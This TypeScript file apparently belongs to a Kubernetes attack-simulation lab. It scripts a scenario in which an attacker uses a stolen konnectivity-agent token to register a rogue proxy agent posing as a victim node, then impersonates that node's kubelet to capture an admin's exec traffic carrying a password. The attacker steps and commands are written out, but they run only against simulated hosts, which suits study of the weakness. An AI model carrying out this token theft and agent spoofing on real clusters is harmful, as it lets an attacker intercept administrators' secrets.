import { atOwnAddress } from '../../attacker/position';
import type { Host } from '../../network/network';
import { addresses, ports } from '../addresses';
import { AGENT_AUDIENCE, agentToken, startLabAgent } from '../konnectivity';
import { clientOn } from './client-on';
import { playOf } from './play';
import { poseAsKubelet } from './pose-as-kubelet';

const ROGUE = 'rogue';

export const konnectivityRogueAgent = playOf({
  steps: [
    'attacker: has got hold of what a kubelet projects into the pod of an agent: /var/run/secrets/tokens/konnectivity-agent-token',
    'attacker: kubectl --token=… get pods -A',
    'attacker: proxy-agent --agent-id=rogue --agent-identifiers=ipv4=10.0.0.11 --service-account-token-path=…',
    'admin: kubectl logs web --tail=3',
    "admin: echo PASSWORD | kubectl exec -i web -- sh -c 'cat > /run/password'",
    'attacker: looks at what its agent was told to dial',
  ],
  async play(stage) {
    const cluster = await stage.cluster();
    const { attackerHost, admin, pki, konnectivity } = cluster;
    if (konnectivity === null) throw new Error('this cluster has no proxy server');
    const { signal } = stage;

    const token = await agentToken(admin);
    await stage.did(
      'attacker',
      'has got hold of what a kubelet projects into the pod of an agent: /var/run/secrets/tokens/konnectivity-agent-token',
      `a token for audience ${AGENT_AUDIENCE}, ${token.slice(0, 24)}…`,
    );
    await using thief = clientOn(attackerHost, cluster, { token });
    const pods = await thief.request('GET', '/api/v1/pods', { signal });
    const list = 'kubectl --token=… get pods -A';
    if (pods.ok)
      await stage.gained('attacker', list, 'the pods', 'the API, with a token of another audience');
    else await stage.did('attacker', list, `${pods.words} (the apiserver is no audience of this token)`);

    const dialled: string[] = [];
    const victim = addresses.node1;
    const agent = stage.closeLater(
      startLabAgent(
        { pki, log: stage.log },
        {
          host: {
            ...hostOf(attackerHost),
            dial: (to, options) => {
              const here = to.host === victim && to.port === ports.kubelet;
              if (to.host !== addresses.konnectivityServer) dialled.push(`${to.host}:${to.port}`);
              return attackerHost.dial(here ? { host: addresses.attacker, port: to.port } : to, options);
            },
          },
          agentId: ROGUE,
          identifiers: `ipv4=${victim}`,
          token: async () => token,
        },
      ),
    );
    const problem = await agent.nextAttempt();
    const run = `proxy-agent --agent-id=${ROGUE} --agent-identifiers=ipv4=${victim} --service-account-token-path=…`;
    if (problem !== null) {
      await stage.refused('attacker', run, problem);
      return;
    }
    await konnectivity.server.whenConnected(ROGUE, signal);
    await stage.did('attacker', run, `connected, beside ${konnectivity.agent.agentId}`);

    const kubelet = await poseAsKubelet(stage, cluster, {
      address: victim,
      position: atOwnAddress('its own agent dials what it likes'),
      present: null,
    });
    await kubelet.isAskedFor('web');
    await stage.did('attacker', 'looks at what its agent was told to dial', [...new Set(dialled)].join(', '));
  },
});

/** All of a machine but how it dials. */
function hostOf(host: Host): Omit<Host, 'dial'> {
  return {
    name: host.name,
    addresses: host.addresses,
    timeline: host.timeline,
    resolve: (name) => host.resolve(name),
    listen: (at, accept) => host.listen(at, accept),
  };
}
